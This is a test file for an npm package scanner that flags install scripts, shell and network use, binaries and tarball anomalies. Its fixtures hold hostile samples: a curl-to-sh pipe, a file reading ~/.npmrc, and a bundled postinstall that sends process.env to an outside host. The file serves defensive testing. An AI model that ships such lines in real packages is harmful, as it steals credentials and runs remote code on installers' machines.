import { createHash } from 'node:crypto';
import { packageFacts, type FactCache } from '../../../src/checks/code/package-facts.js';
import { analyzeCodeChange } from '../../../src/checks/code/new-facts.js';
import type { ExtractedPackage, Fact, FileEntry } from '../../../src/model/types.js';
import { fileEntry, packageFrom } from '../../helpers/package-from.js';

const keys = (facts: Fact[]) => facts.map((f) => f.key).sort();
const manifest = (extra: Record<string, unknown> = {}) => JSON.stringify({ name: 'p', version: '1.0.0', ...extra });

test('code in tests, docs and examples is skipped; READMEs and type declarations are not code', () => {
  const facts = packageFacts(
    packageFrom({
      'package.json': manifest(),
      'index.js': 'module.exports = 1;',
      'test/run.js': "require('child_process').execSync('npm test');",
      'examples/fetch.js': "require('https').get('https://api.service.dev/x');",
      'docs/snippet.js': 'eval(code);',
      'README.md': 'Run `curl https://get.tool.dev | sh` then `node -e "require(\'child_process\')"`.',
      'index.d.ts': "declare module 'child_process';",
      'test/fixtures/make.sh': '#!/bin/sh\ncurl https://fixtures.dev/x > x\n',
    }),
    'registry',
  );
  expect(facts).toEqual([]);
});

test('a file in a skipped folder still counts when an install script runs it or shipped code loads it', () => {
  const facts = packageFacts(
    packageFrom({
      'package.json': manifest({ scripts: { postinstall: 'node test/setup.js' } }),
      'index.js': "require('./spec/helper');",
      'test/setup.js': "require('child_process').exec('id');",
      'spec/helper.js': "require('dgram');",
    }),
    'registry',
  );
  expect(keys(facts)).toEqual([
    'install-script:postinstall:node test/setup.js',
    'network:module:dgram',
    'shell:child_process.exec',
    'shell:module:child_process',
    'shell:program:id',
  ]);
  const shell = facts.find((f) => f.key === 'shell:module:child_process') as Fact & { installTime?: boolean };
  expect(shell).toMatchObject({ file: 'test/setup.js', installTime: true });
});

test('network use from an install-time file is high', () => {
  const facts = packageFacts(
    packageFrom({ 'package.json': manifest({ scripts: { install: 'node i.js' } }), 'i.js': "require('https');", 'lib.js': "require('http');" }),
    'registry',
  );
  expect(facts.find((f) => f.key === 'network:module:https')).toMatchObject({ severity: 'high' });
  expect(facts.find((f) => f.key === 'network:module:http')).toMatchObject({ severity: 'medium' });
});

test('facts are cached by content hash and re-stamped for another path', () => {
  const cache: FactCache = new Map();
  const code = "const net = require('net');";
  const first = packageFacts(packageFrom({ 'a.js': code }), 'registry', cache);
  const second = packageFacts(packageFrom({ 'lib/b.js': code }), 'registry', cache);
  expect(cache.size).toBe(1);
  expect(first[0]).toMatchObject({ file: 'a.js', detail: expect.stringMatching(/^a\.js loads/) });
  expect(second[0]).toMatchObject({ file: 'lib/b.js', detail: expect.stringMatching(/^lib\/b\.js loads/), line: 1 });
  expect(cache.get([...cache.keys()][0]!)!.facts[0]!.file).toBe('a.js');
});

test('binaries and scripts are facts; shell scripts are scanned for downloads and hosts', () => {
  const facts = packageFacts(
    packageFrom({
      'package.json': manifest(),
      'bin/tool': Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1]),
      'get.sh': 'wget https://dl.tools-cdn.net/tool -O /tmp/t && chmod +x /tmp/t\n',
    }),
    'registry',
  );
  expect(keys(facts)).toEqual(['binary:elf:tool', 'binary:script:get.sh', 'network:download', 'network:host:dl.tools-cdn.net']);
});

test('tarball anomalies become facts with their severity', () => {
  const facts = packageFacts(
    packageFrom({ 'package.json': manifest() }, [
      { code: 'gzip-bomb', message: 'the tarball expands more than 1000:1' },
      { code: 'path-traversal', path: '../../etc/x', message: 'the tarball has an entry with a ".." segment (../../etc/x); it was not unpacked' },
      { code: 'symlink', path: 'lib/x', message: 'lib/x is a symlink to /etc/passwd, outside the package' },
      { code: 'too-many-files', message: 'the tarball has more than 10000 files; the rest were not reviewed' },
    ]),
    'registry',
  );
  expect(facts.map((f) => [f.key, f.severity])).toEqual([
    ['tarball-anomaly:gzip-bomb', 'critical'],
    ['tarball-anomaly:path-traversal', 'critical'],
    ['tarball-anomaly:symlink', 'high'],
    ['tarball-anomaly:too-many-files', 'high'],
  ]);
  expect(facts[2]!.detail).toMatch(/^lib\/x is a symlink to \/etc\/passwd, outside the package: `npm publish` never produces this/);
  expect(facts[0]!.detail).toMatch(/^The tarball expands/);
});

test('an unreadable package.json is a high finding, not a crash; the code is still reviewed', () => {
  const facts = packageFacts(packageFrom({ 'package.json': '{ not json', 'index.js': "require('child_process');" }), 'registry');
  expect(facts.map((f) => [f.key, f.severity])).toEqual([
    ['shell:module:child_process', 'high'],
    ['tarball-anomaly:manifest-unreadable', 'high'],
  ]);
  expect(facts[1]!.detail).toMatch(/^package\.json could not be read \(it is not valid JSON: .*\), so its install scripts and entry points were not reviewed/);
});

test('a native binary in a package that declares os/cpu is medium; the same binary elsewhere is high', () => {
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(60)]);
  const files = (extra: Record<string, unknown>) =>
    packageFrom({ 'package.json': manifest(extra), 'tool.linux-x64.node': elf });
  const platform = packageFacts(files({ os: ['linux'], cpu: ['x64'] }), 'registry');
  const plain = packageFacts(files({}), 'registry');
  expect(platform.find((f) => f.kind === 'binary')).toMatchObject({ severity: 'medium', detail: expect.stringContaining('os') });
  expect(plain.find((f) => f.kind === 'binary')).toMatchObject({ severity: 'high' });
});

test('URLs count as hosts only in a package whose code can reach the network', () => {
  const text = "module.exports = { help: 'https://fonts.example-credits.org/upside-down' };";
  expect(packageFacts(packageFrom({ 'package.json': manifest(), 'fonts.js': text }), 'registry')).toEqual([]);
  const withClient = packageFacts(packageFrom({ 'package.json': manifest(), 'fonts.js': text, 'client.js': "require('https');" }), 'registry');
  expect(withClient.map((f) => f.key).sort()).toEqual(['network:host:fonts.example-credits.org', 'network:module:https']);
});

const unread = (path: string, content: string, reason?: string): FileEntry => {
  const { text: _text, ...entry } = fileEntry(path, content);
  return reason ? { ...entry, unread: reason } : entry;
};
const withFiles = (pkg: ExtractedPackage, ...entries: FileEntry[]): ExtractedPackage => {
  for (const entry of entries) pkg.files.set(entry.path, entry);
  return pkg;
};

test('entry points and install files are reviewed wherever they live', () => {
  const facts = packageFacts(
    packageFrom({
      'package.json': manifest({
        main: 'test/index.js',
        bin: { tool: 'docs/cli.js' },
        exports: { '.': './test/index.js', './x/*': './examples/*.js' },
        scripts: { postinstall: 'node benchmark/setup.js' },
      }),
      'test/index.js': "require('dgram');",
      'docs/cli.js': "require('child_process').spawn('x');",
      'examples/steal.js': "const fs = require('fs'); fs.readFileSync(require('os').homedir() + '/.npmrc');",
      'benchmark/setup.js': "require('./lib/fetch');",
      'benchmark/lib/fetch.js': "require('https').get('https://collector.example.net/x');",
      'test/unrelated.js': 'eval(x);',
    }),
    'registry',
  );
  const byKey = new Map(facts.map((f) => [f.key, f as Fact & { installTime?: boolean }]));
  expect(byKey.get('network:module:dgram')).toMatchObject({ file: 'test/index.js' });
  expect(byKey.get('shell:child_process.spawn')).toMatchObject({ file: 'docs/cli.js' });
  expect(byKey.get('fs-sensitive:~/.npmrc')).toMatchObject({ file: 'examples/steal.js' });
  // What an install-time file loads runs at install time too.
  expect(byKey.get('network:module:https')).toMatchObject({ file: 'benchmark/lib/fetch.js', severity: 'high', installTime: true });
  expect(byKey.has('eval:eval')).toBe(false);
});

test('a type declaration or stylesheet named by exports is not read as code; a `main` with any name is', () => {
  const facts = packageFacts(
    packageFrom({
      'package.json': manifest({ main: 'lib/payload.txt', exports: { '.': { types: './index.d.ts', default: './lib/payload.txt' }, './style.css': './style.css' } }),
      'index.d.ts': "declare module 'child_process';",
      'style.css': "@import url('https://fonts.example.org/x.css');",
      'lib/payload.txt': "require('child_process').exec('id');",
    }),
    'registry',
  );
  expect(keys(facts)).toEqual(['shell:child_process.exec', 'shell:module:child_process', 'shell:program:id']);
  expect(facts.every((f) => f.file === 'lib/payload.txt')).toBe(true);
});

test('a code file nobody read is a finding: high when npm runs it, medium when only shipped, silent in unreached tests', () => {
  const pkg = withFiles(
    packageFrom({ 'package.json': manifest({ main: 'dist/big.js', scripts: { install: 'node install.js' } }), 'install.js': "require('./dl');" }),
    unread('dist/big.js', 'x'.repeat(100), 'it is 70000000 bytes, over the 64 MiB text limit'),
    unread('dl.js', 'y'.repeat(100)),
    unread('lib/other.js', 'z'.repeat(100)),
    unread('test/huge-fixture.js', 'w'.repeat(100)),
    unread('assets/logo.png', 'v'.repeat(100)),
  );
  const facts = packageFacts(pkg, 'registry').filter((f) => f.key.startsWith('tarball-anomaly:unreviewed:'));
  expect(facts.map((f) => [f.file, f.severity])).toEqual([
    ['dist/big.js', 'high'],
    ['dl.js', 'high'],
    ['lib/other.js', 'medium'],
  ]);
  expect(facts[0]!.detail).toBe(
    'dist/big.js was not reviewed: it is 70000000 bytes, over the 64 MiB text limit; npm runs it when the package is used (`main`). Read it before trusting this version.',
  );
  expect(facts[1]!.detail).toMatch(/^dl\.js was not reviewed: its 100 bytes were not decoded as text .*; it runs at install time \(loaded by a file an install script runs\)/);
});

test('an unread file byte-identical in the old version is not news; changed unread bytes are', () => {
  const version = (big: string) =>
    withFiles(packageFrom({ 'package.json': manifest({ main: 'lib/typescript.js' }) }), unread('lib/typescript.js', big, 'over the text limit'));
  expect(analyzeCodeChange(version('a'.repeat(50)), version('a'.repeat(50)), 'registry')).toEqual([]);
  expect(analyzeCodeChange(version('a'.repeat(50)), version('b'.repeat(50)), 'registry')).toEqual([
    expect.objectContaining({ kind: 'tarball-anomaly', severity: 'high', file: 'lib/typescript.js' }),
  ]);
});

test('install scripts of a bundled dependency are reported, with what their files do', () => {
  const facts = packageFacts(
    packageFrom({
      'package.json': manifest({ bundleDependencies: ['helper'] }),
      'index.js': "module.exports = require('helper');",
      'node_modules/helper/package.json': JSON.stringify({ name: 'helper', scripts: { postinstall: 'node test/run.js' } }),
      'node_modules/helper/test/run.js': "require('https').get('https://x.example.net/' + JSON.stringify(process.env));",
    }),
    'registry',
  );
  expect(facts.find((f) => f.kind === 'install-script')).toMatchObject({
    key: 'install-script:node_modules/helper:postinstall:node test/run.js',
    file: 'node_modules/helper/package.json',
    severity: 'critical',
    detail: expect.stringMatching(/^node_modules\/helper \(bundled in this package\): The `postinstall` script runs `node test\/run\.js`.*makes network calls/),
  });
  expect(facts.find((f) => f.key === 'network:module:https')).toMatchObject({ file: 'node_modules/helper/test/run.js', severity: 'high' });
});

test('an empty archive, one without package.json, and an oversized package.json are high findings', () => {
  expect(packageFacts(packageFrom({}), 'registry')).toEqual([expect.objectContaining({ key: 'tarball-anomaly:empty', severity: 'high' })]);
  expect(packageFacts(packageFrom({ 'index.js': '1' }), 'registry')).toEqual([expect.objectContaining({ key: 'tarball-anomaly:no-manifest', severity: 'high' })]);
  const huge = packageFrom({ 'package.json': JSON.stringify({ name: 'p', pad: ' '.repeat(17 * 1024 * 1024) }) });
  expect(packageFacts(huge, 'registry')).toEqual([
    expect.objectContaining({ key: 'tarball-anomaly:manifest-unreadable', severity: 'high', detail: expect.stringContaining('over depdiff') }),
  ]);
  const notDecoded = withFiles(packageFrom({}), unread('package.json', '{}', 'it is 70000000 bytes, over the 64 MiB text limit'));
  expect(packageFacts(notDecoded, 'registry')[0]!.detail).toMatch(/^package\.json could not be read \(it is 70000000 bytes/);
});

test('a package.json past the per-file analysis limit is still parsed: its install script is found', () => {
  const padded = { name: 'p', version: '1.0.0', scripts: { preinstall: 'node x.js' }, description: 'd'.repeat(3 * 1024 * 1024) };
  const facts = packageFacts(packageFrom({ 'package.json': JSON.stringify(padded), 'x.js': "require('child_process').exec('id');" }), 'registry');
  expect(facts.find((f) => f.kind === 'install-script')).toMatchObject({ key: 'install-script:preinstall:node x.js', severity: 'high' });
});

test('imports are cached with the facts: a cache hit follows the imports of its own entry, and nothing else', () => {
  const cache: FactCache = new Map();
  const index = "require('./test/helper');";
  const withHelper = () => packageFrom({ 'package.json': manifest(), 'index.js': index, 'test/helper.js': "require('child_process').exec('id');" });
  expect(keys(packageFacts(withHelper(), 'registry', cache))).toContain('shell:child_process.exec');
  // A hit again: the facts of test/helper.js are reached through the imports kept in index.js's entry.
  expect(keys(packageFacts(withHelper(), 'registry', cache))).toContain('shell:child_process.exec');
  // The entry is the only record of them (the bug fixed here was a second, module-wide table of imports that a
  // busy review could empty while the entries stayed): emptied, the hit follows nothing; filled for a file that
  // imports nothing, the hit follows what it says.
  const indexKey = `js:${createHash('sha256').update(index).digest('hex')}`;
  expect(cache.get(indexKey)?.localImports).toEqual(['./test/helper']);
  cache.set(indexKey, { ...cache.get(indexKey)!, localImports: [] });
  expect(keys(packageFacts(withHelper(), 'registry', cache))).not.toContain('shell:child_process.exec');
  const plain = 'module.exports = 1;';
  const plainKey = `js:${createHash('sha256').update(plain).digest('hex')}`;
  cache.set(plainKey, { facts: [], localImports: ['./test/helper'] });
  const reachedOnlyThroughTheEntry = packageFrom({ 'package.json': manifest(), 'index.js': plain, 'test/helper.js': "require('child_process').exec('id');" });
  expect(keys(packageFacts(reachedOnlyThroughTheEntry, 'registry', cache))).toContain('shell:child_process.exec');
});
